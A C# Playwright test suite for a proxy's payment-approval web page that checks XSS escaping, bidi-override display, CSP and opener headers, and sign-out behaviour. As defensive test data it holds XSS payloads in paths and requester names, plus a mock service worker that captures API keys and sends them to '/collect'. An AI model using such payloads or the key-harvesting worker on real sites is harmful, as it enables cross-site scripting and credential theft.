using System.Net;
using Edge.Testing;
using Edge.Testing.Browser;
using Microsoft.Playwright;
using static Edge.FunctionalTests.Approvals.ApprovalEdge;

namespace Edge.FunctionalTests.Approvals;

public sealed class ApproverPageTests(SystemChromium chromium) : IClassFixture<SystemChromium>
{
    private const string HostilePath = "/payments/<img src=x onerror=\"document.title='owned'\">";

    [Fact]
    public async Task ApproverPage_ApproveAndReject_TokenForwardsTheRequestAndRejectionIsFinal()
    {
        // Other test classes run in parallel on a shared machine: give each expectation more than the default 5 s.
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = Backend.Start();
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
        var approvedId = await RequestApprovalAsync(edge.Client);
        var rejectedBody = "{\"amount\":9}";
        var rejectedId = await RequestApprovalAsync(edge.Client, body: rejectedBody);
        using (var hostile = await edge.Client.SendAsync(Payment(path: HostilePath.Replace("<", "%3C", StringComparison.Ordinal).Replace(">", "%3E", StringComparison.Ordinal).Replace("\"", "%22", StringComparison.Ordinal).Replace(" ", "%20", StringComparison.Ordinal))))
        {
            Assert.Equal((HttpStatusCode)428, hostile.StatusCode);
        }

        await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { Locale = "en-GB", TimezoneId = "UTC" });
        var page = await context.NewPageAsync();
        var errors = new List<string>();
        var requests = new List<string>();
        page.PageError += (_, error) => errors.Add(error);
        page.Console += (_, message) =>
        {
            if (message.Type == "error")
            {
                errors.Add(message.Text);
            }
        };
        page.Dialog += (_, dialog) => errors.Add("dialog: " + dialog.Message);
        page.Request += (_, request) => requests.Add(request.Url);
        var origin = $"http://127.0.0.1:{edge.ProxyPort}";
        var document = await page.GotoAsync(origin + "/_edge/approvals/ui");
        var csp = await document!.HeaderValueAsync("content-security-policy");

        // A wrong credential is refused, and nothing is listed.
        await SignInAsync(page, "not-a-key");
        await Assertions.Expect(page.Locator("#status")).ToContainTextAsync("(401)");
        await SignInAsync(page, BobKey);
        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("3 requests are waiting.");
        var hostileCell = page.Locator("#approvals tbody td.path", new() { HasTextString = "<img" });
        await Assertions.Expect(hostileCell).ToHaveCountAsync(1);
        var approvedRow = page.Locator($"#approvals tbody tr[data-id='{approvedId}']");
        await Assertions.Expect(approvedRow.Locator("td.requester")).ToHaveTextAsync("alice");
        await Assertions.Expect(approvedRow.Locator("td.path")).ToHaveTextAsync(PaymentPath);
        await Assertions.Expect(approvedRow.Locator("td.hash")).ToHaveTextAsync(Sha256Hex(Body));

        await approvedRow.GetByRole(AriaRole.Button, new() { Name = "Approve" }).ClickAsync();
        await Assertions.Expect(page.Locator("#token")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex($"^{approvedId}\\."));
        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("Approved POST /payments/transfer.");
        var token = await page.Locator("#token").TextContentAsync();
        await page.Locator($"#approvals tbody tr[data-id='{rejectedId}']").GetByRole(AriaRole.Button, new() { Name = "Reject" }).ClickAsync();
        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("Rejected POST /payments/transfer.");
        await Assertions.Expect(page.Locator("#approvals tbody tr")).ToHaveCountAsync(1);

        using var retry = await edge.Client.SendAsync(Payment(token: token));
        using var rejectedRetry = await edge.Client.SendAsync(Payment(body: rejectedBody));
        var title = await page.TitleAsync();

        Assert.Equal("default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'", csp);
        Assert.Equal(HttpStatusCode.OK, retry.StatusCode);
        Assert.Single(backend.Received);
        Assert.Equal(HttpStatusCode.Forbidden, rejectedRetry.StatusCode);
        Assert.Equal("approval_rejected", Code(await JsonAsync(rejectedRetry)));
        Assert.Equal("Edge approvals", title);
        // The browser logs the refused sign-in's 401 itself; nothing else may fail.
        Assert.Equal("Failed to load resource: the server responded with a status of 401 (Unauthorized)", Assert.Single(errors));
        Assert.All(requests, url => Assert.StartsWith(origin + "/_edge/approvals", url, StringComparison.Ordinal));
        Assert.Equal("", await page.Locator("#credential").InputValueAsync());
        Assert.Equal(0, await page.EvaluateAsync<int>("() => localStorage.length + sessionStorage.length + document.cookie.length"));
    }

    [Fact]
    public async Task ApproverPage_EdgeStoppedBeforeApprove_SaysTheEdgeCannotBeReached()
    {
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = Backend.Start();
        var edge = await EdgeHost.StartAsync(Create(backend.Url));
        var stopped = false;
        try
        {
            var approvalId = await RequestApprovalAsync(edge.Client);
            await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { Locale = "en-GB", TimezoneId = "UTC" });
            var page = await context.NewPageAsync();
            var pageErrors = new List<string>();
            page.PageError += (_, error) => pageErrors.Add(error);
            await page.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/_edge/approvals/ui");
            await SignInAsync(page, BobKey);
            await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("1 request is waiting.");

            await edge.DisposeAsync();
            stopped = true;
            await page.Locator($"#approvals tbody tr[data-id='{approvalId}']").GetByRole(AriaRole.Button, new() { Name = "Approve" }).ClickAsync();

            // The approver must not be left believing nothing happened, nor that the request was approved.
            await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("The edge cannot be reached. Load the list again to see whether the request was approved.");
            await Assertions.Expect(page.Locator("#status")).ToHaveClassAsync(new System.Text.RegularExpressions.Regex("error"));
            Assert.False(await page.Locator("#token-box").IsVisibleAsync());
            Assert.Empty(pageErrors);
        }
        finally
        {
            if (!stopped)
            {
                await edge.DisposeAsync();
            }
        }
    }

    [Fact]
    public async Task ApproverPage_PathWithBidiOverride_ShowsTheControlCharacterInsteadOfReorderingThePath()
    {
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = Backend.Start();
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
        // U+202E (right-to-left override) makes "/payments/<RLO>refsnart" render as "/payments/transfer": the approver
        // would approve a request to a path other than the one they read.
        var (context, page) = await OpenWithOneRequestAsync(edge, "/payments/%E2%80%AErefsnart?to=%E2%80%8F42");
        await using var _ = context;
        var shown = await page.Locator("#approvals tbody td.path").TextContentAsync();
        var approve = page.Locator("#approvals tbody tr").GetByRole(AriaRole.Button, new() { Name = "Approve" });
        var label = await approve.GetAttributeAsync("aria-label");
        await approve.ClickAsync();

        await Assertions.Expect(page.Locator("#approvals tbody td.path")).ToHaveCountAsync(0);
        Assert.Equal("/payments/<U+202E>refsnart?to=%E2%80%8F42", shown);
        Assert.Equal("Approve POST /payments/<U+202E>refsnart by alice", label);
        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("Approved POST /payments/<U+202E>refsnart.");
    }

    [Fact]
    public async Task ApproverPage_RightToLeftLettersInAPath_DrawTheSegmentsInTheOrderTheBackendGets()
    {
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = Backend.Start();
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
        // No control character: the Hebrew letters alone make a browser draw "/payments/<alef>/111/<alef>/222" as
        // "/payments/222/<alef>/111/<alef>", so the approver would approve a transfer between the accounts swapped.
        const string path = "/payments/\u05D0/111/\u05D0/222";
        var (context, page) = await OpenWithOneRequestAsync(edge, "/payments/%D7%90/111/%D7%90/222");
        await using var _ = context;
        var cell = page.Locator("#approvals tbody td.path");
        await Assertions.Expect(cell).ToHaveTextAsync(path);
        var listInOrder = await VisualOrder.IsDrawnBeforeAsync(cell, path, "111", "222");
        await page.Locator("#approvals tbody tr").GetByRole(AriaRole.Button, new() { Name = "Approve" }).ClickAsync();
        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync($"Approved POST {path}.");
        var statusInOrder = await VisualOrder.IsDrawnBeforeAsync(page.Locator("#status"), path, "111", "222");

        Assert.True(listInOrder, "the list draws 222 before 111");
        Assert.True(statusInOrder, "the message after approving draws 222 before 111");
    }

    [Fact]
    public async Task ApproverPage_SignOut_ForgetsTheListTokenAndCredential()
    {
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = Backend.Start();
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
        var approvedId = await RequestApprovalAsync(edge.Client);
        await RequestApprovalAsync(edge.Client, body: "{\"amount\":9}");
        await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { Locale = "en-GB", TimezoneId = "UTC" });
        var page = await context.NewPageAsync();
        var decisions = new List<string>();
        page.Request += (_, request) =>
        {
            if (request.Method == "POST")
            {
                decisions.Add(request.Url);
            }
        };
        await page.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/_edge/approvals/ui");
        await SignInAsync(page, BobKey);
        await page.Locator($"#approvals tbody tr[data-id='{approvedId}']").GetByRole(AriaRole.Button, new() { Name = "Approve" }).ClickAsync();
        await Assertions.Expect(page.Locator("#token-box")).ToBeVisibleAsync();

        await page.GetByRole(AriaRole.Button, new() { Name = "Sign out" }).ClickAsync();

        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("Signed out. Enter your credential to see the requests waiting for you.");
        await Assertions.Expect(page.Locator("#approvals")).ToBeHiddenAsync();
        await Assertions.Expect(page.Locator("#approvals tbody tr")).ToHaveCountAsync(0);
        await Assertions.Expect(page.Locator("#token-box")).ToBeHiddenAsync();
        await Assertions.Expect(page.Locator("#token")).ToHaveTextAsync("");
        await Assertions.Expect(page.GetByRole(AriaRole.Button, new() { Name = "Sign out" })).ToBeHiddenAsync();
        Assert.Single(decisions);
    }

    [Fact]
    public async Task ApproverPage_SignedOutBeforeTheDecisionIsAnswered_TokenAndMessageStayOffTheScreen()
    {
        // decide() wrote the token and "Approved …" when the answer came, even after the approver had signed out: the
        // token was back on an unattended tab's screen (and the sign-out test failed when its click fell in that gap).
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = Backend.Start();
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
        var (context, page) = await OpenWithOneRequestAsync(edge, "/payments/transfer");
        await using var _ = context;
        var signedOut = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        await page.RouteAsync("**/approve", async route =>
        {
            await signedOut.Task;
            await route.ContinueAsync();
        });

        await page.Locator("#approvals tbody tr").GetByRole(AriaRole.Button, new() { Name = "Approve" }).ClickAsync();
        await page.GetByRole(AriaRole.Button, new() { Name = "Sign out" }).ClickAsync();
        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("Signed out. Enter your credential to see the requests waiting for you.");
        var answered = page.WaitForResponseAsync("**/approve");
        signedOut.SetResult();
        Assert.True((await answered).Ok);
        // Lets the page's own continuation of that answer run before the screen is read.
        await page.EvaluateAsync("() => new Promise(resolve => setTimeout(resolve, 300))");

        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("Signed out. Enter your credential to see the requests waiting for you.");
        await Assertions.Expect(page.Locator("#token-box")).ToBeHiddenAsync();
        await Assertions.Expect(page.Locator("#token")).ToHaveTextAsync("");
        await Assertions.Expect(page.Locator("#approvals")).ToBeHiddenAsync();
    }

    [Fact]
    public async Task ApproverPage_InvalidApiKeyHeaderName_SaysSoNotThatTheEdgeCannotBeReached()
    {
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = Backend.Start();
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
        await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { Locale = "en-GB", TimezoneId = "UTC" });
        var page = await context.NewPageAsync();
        await page.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/_edge/approvals/ui");
        await page.GetByLabel("API key header").FillAsync("X Api Key");

        await SignInAsync(page, BobKey);

        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("The API key header name is not a valid HTTP header name.");
        await Assertions.Expect(page.Locator("#status")).ToHaveClassAsync(new System.Text.RegularExpressions.Regex("error"));
    }

    [Fact]
    public async Task ApproverPage_HeaderNameEditedAfterSignIn_DecisionIsSentWithTheCredentialAsSignedIn()
    {
        // The sign-in form stays on screen. The header name was read again at every call, so a name edited after sign-in
        // (here one fetch() cannot send) failed the decision as "The edge cannot be reached." before anything was sent.
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = Backend.Start();
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
        var (context, page) = await OpenWithOneRequestAsync(edge, PaymentPath);
        await using var _ = context;

        await page.GetByLabel("API key header").FillAsync("X Api Key");
        await page.Locator("#approvals tbody tr").GetByRole(AriaRole.Button, new() { Name = "Approve" }).ClickAsync();

        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("Approved POST /payments/transfer.");
        await Assertions.Expect(page.Locator("#token")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("\\."));
    }

    [Fact]
    public async Task ApproverPage_LongRequester_WrapsInsideTheWindowWithTheButtonsOnScreen()
    {
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = Backend.Start();
        // A JWT subject is the identity provider's to choose: the longest principal the edge takes has no space to wrap at.
        var principal = "svc-" + new string('p', 252);
        var config = Create(backend.Url);
        Assert.Contains("\"Principal\": \"alice\"", config, StringComparison.Ordinal);
        await using var edge = await EdgeHost.StartAsync(config.Replace("\"Principal\": \"alice\"", $"\"Principal\": \"{principal}\"", StringComparison.Ordinal));
        await RequestApprovalAsync(edge.Client);
        await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { Locale = "en-GB", TimezoneId = "UTC", ViewportSize = new() { Width = 1280, Height = 800 } });
        var page = await context.NewPageAsync();
        await page.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/_edge/approvals/ui");
        await SignInAsync(page, BobKey);
        await Assertions.Expect(page.Locator("#approvals tbody td.requester")).ToHaveTextAsync(principal);

        var overflow = await page.EvaluateAsync<int>("document.documentElement.scrollWidth - document.documentElement.clientWidth");
        var reject = await page.GetByRole(AriaRole.Button, new() { Name = "Reject" }).BoundingBoxAsync();

        Assert.True(overflow <= 0, $"the page scrolls sideways by {overflow} px");
        Assert.NotNull(reject);
        Assert.True(reject.X + reject.Width <= 1280, $"the Reject button ends at x = {reject.X + reject.Width}, outside the 1280 px window");
    }

    [Fact]
    public async Task ApproverPage_OpenedByABackendPageOnTheSameOrigin_IsNotReachableFromItsScript()
    {
        // The page is served on the proxy listener, so every backend behind the edge shares its origin. A script of one
        // of them (an XSS in any proxied app) that opens the page held a same-origin handle to it: it could read the
        // list and the approval token, or listen to the approver typing their credential.
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = Backend.Start();
        backend.Server.Given(WireMock.RequestBuilders.Request.Create().WithPath("/portal").UsingGet())
            .RespondWith(WireMock.ResponseBuilders.Response.Create().WithHeader("Content-Type", "text/html").WithBody("""
                <!doctype html><title>portal</title>
                <button id="open">Open approvals</button>
                <script>
                  let approvals = null;
                  document.getElementById('open').addEventListener('click', () => { approvals = window.open('/_edge/approvals/ui/'); });
                  window.probe = () => {
                    if (approvals === null || approvals.closed) { return 'no handle'; }
                    try { return 'read: ' + approvals.document.getElementById('status').textContent; } catch (e) { return 'blocked: ' + e.name; }
                  };
                </script>
                """));
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
        await RequestApprovalAsync(edge.Client);
        await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { Locale = "en-GB", TimezoneId = "UTC" });
        var portal = await context.NewPageAsync();
        await portal.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/portal");
        var approvals = await context.RunAndWaitForPageAsync(() => portal.GetByRole(AriaRole.Button, new() { Name = "Open approvals" }).ClickAsync());
        await SignInAsync(approvals, BobKey);
        await Assertions.Expect(approvals.Locator("#status")).ToHaveTextAsync("1 request is waiting.");

        var seen = await portal.EvaluateAsync<string>("() => window.probe()");
        var response = await approvals.ReloadAsync();

        Assert.Equal("no handle", seen);
        Assert.Equal("same-origin", await response!.HeaderValueAsync("cross-origin-opener-policy"));
    }

    [Fact]
    public async Task ApproverPage_ServiceWorkerOfABackendControlsIt_TakesNoCredential()
    {
        // Every backend behind the edge shares the page's origin. A service worker one of them registers at the root (a
        // progressive web app does) controls the page too: it received the page's requests, the approver's key included.
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = WorkerBackend();
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
        await RequestApprovalAsync(edge.Client);
        await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { Locale = "en-GB", TimezoneId = "UTC" });
        var portal = await context.NewPageAsync();
        await portal.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/portal");
        await Assertions.Expect(portal).ToHaveTitleAsync("installed");
        var page = await context.NewPageAsync();
        var requests = new List<string>();
        page.Request += (_, request) => requests.Add(request.Url);
        await page.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/_edge/approvals/ui/");
        var controlled = await page.EvaluateAsync<bool>("() => navigator.serviceWorker.controller !== null");

        await SignInAsync(page, BobKey);

        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("^A service worker of this origin"));
        Assert.True(controlled);
        Assert.Equal("", await page.GetByLabel("Approver credential").InputValueAsync());
        Assert.True(await page.Locator("#approvals").IsHiddenAsync());
        Assert.DoesNotContain(requests, url => url.Contains("/_edge/approvals?", StringComparison.Ordinal));
        Assert.DoesNotContain(backend.Received, entry => entry.RequestMessage!.Path == "/collect");
    }

    [Fact]
    public async Task ApproverPage_ServiceWorkerTakesControlAfterSignIn_SignsOutBeforeTheNextCall()
    {
        // The worker is installed from a backend page in another tab while the approver is signed in, and claims the open
        // page: the page's next call, an approval with the key, went through it.
        Assertions.SetDefaultExpectTimeout(15_000);
        using var backend = WorkerBackend();
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
        var (context, page) = await OpenWithOneRequestAsync(edge, PaymentPath);
        await using var _ = context;
        var portal = await context.NewPageAsync();
        await portal.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/portal");
        await Assertions.Expect(portal).ToHaveTitleAsync("installed");

        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("^A service worker of this origin"));
        var controlled = await page.EvaluateAsync<bool>("() => navigator.serviceWorker.controller !== null");

        Assert.True(controlled);
        Assert.True(await page.Locator("#approvals").IsHiddenAsync());
        Assert.True(await page.GetByRole(AriaRole.Button, new() { Name = "Sign out" }).IsHiddenAsync());
        Assert.DoesNotContain(backend.Received, entry => entry.RequestMessage!.Path == "/collect");
    }

    /// <summary>
    /// A backend whose page <c>/portal</c> installs a service worker for the whole origin that takes control of open pages
    /// at once and reports every API key it sees to <c>/collect</c>.
    /// </summary>
    private static Backend WorkerBackend()
    {
        var backend = Backend.Start();
        backend.Server.Given(WireMock.RequestBuilders.Request.Create().WithPath("/portal").UsingGet())
            .RespondWith(WireMock.ResponseBuilders.Response.Create().WithHeader("Content-Type", "text/html").WithBody("""
                <!doctype html><title>portal</title>
                <script>
                  navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready)
                    .then(() => { document.title = 'installed'; }, (e) => { document.title = 'failed: ' + e; });
                </script>
                """));
        backend.Server.Given(WireMock.RequestBuilders.Request.Create().WithPath("/sw.js").UsingGet())
            .RespondWith(WireMock.ResponseBuilders.Response.Create().WithHeader("Content-Type", "text/javascript").WithBody("""
                self.addEventListener('install', () => self.skipWaiting());
                self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
                self.addEventListener('fetch', (event) => {
                  const key = event.request.headers.get('x-api-key');
                  if (key) {
                    event.waitUntil(fetch('/collect?key=' + encodeURIComponent(key)));
                  }
                });
                """));
        return backend;
    }

    [Fact]
    public async Task ApproverPage_HostileRequesterPathAndQuery_ShowAsTextAndRunNoScript()
    {
        // The requester is the identity provider's subject, the path and query are the client's: markup, a closing script
        // tag, a javascript: URL and a zero-width space in them must stay text in the list, the labels and the message.
        Assertions.SetDefaultExpectTimeout(15_000);
        // An API key's principal is visible ASCII without spaces: '/' separates the attributes instead.
        const string requester = "<img/src=x/onerror=document.title='owned'>";
        using var backend = Backend.Start();
        var config = Create(backend.Url);
        Assert.Contains("\"Principal\": \"alice\"", config, StringComparison.Ordinal);
        await using var edge = await EdgeHost.StartAsync(config.Replace("\"Principal\": \"alice\"", $"\"Principal\": \"{requester}\"", StringComparison.Ordinal));
        var errors = new List<string>();
        var requests = new List<string>();
        var (context, page) = await OpenWithOneRequestAsync(edge,
            "/payments/%3C/script%3E%3Cscript%3Edocument.title='owned'%3C/script%3E%E2%80%8B?next=javascript:document.title='owned'&x=%3Cimg%20src=x%20onerror=alert(1)%3E");
        await using var _ = context;
        page.PageError += (_, error) => errors.Add(error);
        page.Dialog += (_, dialog) => errors.Add("dialog: " + dialog.Message);
        page.Request += (_, request) => requests.Add(request.Url);
        var row = page.Locator("#approvals tbody tr");
        var requesterShown = await row.Locator("td.requester").TextContentAsync();
        var pathShown = await row.Locator("td.path").TextContentAsync();
        var label = await row.GetByRole(AriaRole.Button, new() { Name = "Approve" }).GetAttributeAsync("aria-label");
        await row.GetByRole(AriaRole.Button, new() { Name = "Approve" }).ClickAsync();
        // The message follows the list reload that comes after the token is shown.
        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("^Approved "));
        var status = await page.Locator("#status").TextContentAsync();

        Assert.Equal(requester, requesterShown);
        Assert.Equal("/payments/</script><script>document.title='owned'</script><U+200B>?next=javascript:document.title='owned'&x=%3Cimg%20src=x%20onerror=alert(1)%3E", pathShown);
        Assert.Equal("Approve POST /payments/</script><script>document.title='owned'</script><U+200B> by " + requester, label);
        Assert.Equal("Approved POST /payments/</script><script>document.title='owned'</script><U+200B>.", status);
        Assert.Equal(0, await page.Locator("main img, main script, main a").CountAsync());
        Assert.Equal("Edge approvals", await page.TitleAsync());
        Assert.Empty(errors);
        Assert.All(requests, url => Assert.StartsWith($"http://127.0.0.1:{edge.ProxyPort}/_edge/approvals", url, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("/_edge/approvals/ui/")]
    [InlineData("/_edge/approvals/ui/app.js")]
    [InlineData("/_edge/approvals/ui/app.css")]
    [InlineData("/_edge/approvals/ui/favicon.svg")]
    public async Task ApproverPage_PageAndEachAsset_CarryNoStoreAndTheFramingSniffingReferrerAndOpenerHeaders(string path)
    {
        using var backend = Backend.Start();
        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));

        using var response = await edge.Client.GetAsync(path);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        // "Every answer has Cache-Control: no-store" (approvals.md); the page's files were sent no-cache.
        Assert.Equal("no-store", response.Headers.CacheControl?.ToString());
        Assert.Equal("DENY", response.Headers.GetValues("X-Frame-Options").Single());
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Equal("no-referrer", response.Headers.GetValues("Referrer-Policy").Single());
        Assert.Equal("same-origin", response.Headers.GetValues("Cross-Origin-Opener-Policy").Single());
        Assert.StartsWith("default-src 'none'; script-src 'self';", response.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
    }

    /// <summary>Has alice ask for approval of a payment to <paramref name="path"/>, then shows it to bob on the page.</summary>
    private async Task<(IBrowserContext Context, IPage Page)> OpenWithOneRequestAsync(EdgeHost edge, string path)
    {
        using (var request = await edge.Client.SendAsync(Payment(path: path)))
        {
            Assert.Equal((HttpStatusCode)428, request.StatusCode);
        }

        var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { Locale = "en-GB", TimezoneId = "UTC" });
        var page = await context.NewPageAsync();
        await page.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/_edge/approvals/ui");
        await SignInAsync(page, BobKey);
        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync("1 request is waiting.");
        return (context, page);
    }

    private static async Task SignInAsync(IPage page, string key)
    {
        await page.GetByLabel("Sent as").SelectOptionAsync("header");
        await page.GetByLabel("Approver credential").FillAsync(key);
        await page.GetByRole(AriaRole.Button, new() { Name = "Load" }).ClickAsync();
    }
}
